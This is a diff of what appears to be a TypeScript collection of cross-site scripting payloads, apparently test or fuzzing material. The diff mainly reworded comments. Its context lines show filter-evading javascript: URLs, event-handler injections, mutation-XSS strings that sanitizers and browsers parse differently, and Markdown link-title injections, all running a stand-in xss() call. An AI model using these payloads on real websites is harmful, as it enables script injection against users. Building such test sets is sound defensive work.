@@ -1,7 +1,8 @@
-// Part of xss-payloads.ts: every handler on its element, addresses as browsers read them, and what parsers disagree about.
+// Second part of the XSS payloads: every event handler on its element, addresses as browsers read them, and input that parsers read
+// differently.
 
 const RUN = "xss()";
-/** The same address as browsers read it, written so that filters do not. */
+/** Addresses that browsers read as a script and naive filters do not. */
 const SCRIPTS = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -85,7 +86,7 @@ const handled = (): string[] =>
     `<${tag.replaceAll(" ", "/")}/${handler}=${RUN}//`,
   ]);
 
-/** Well-formed, but read in one way by who cleans and in another by who shows. */
+/** Mutation XSS: markup that sanitizers and browsers parse differently. */
 const MUTATIONS = [
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
@@ -179,7 +180,7 @@ const MUTATIONS = [
   `<div dangerouslySetInnerHTML={{__html:"<img src=x onerror=${RUN}>"}} />`,
 ] as const;
 
-/** What only Markdown makes of a text. */
+/** Payloads that depend on a Markdown parser. */
 const MARKDOWN = [
   `[x](https://e.org "\\" onmouseover=${RUN} \\"")`,
   `[x](https://e.org '" onmouseover="${RUN}')`,
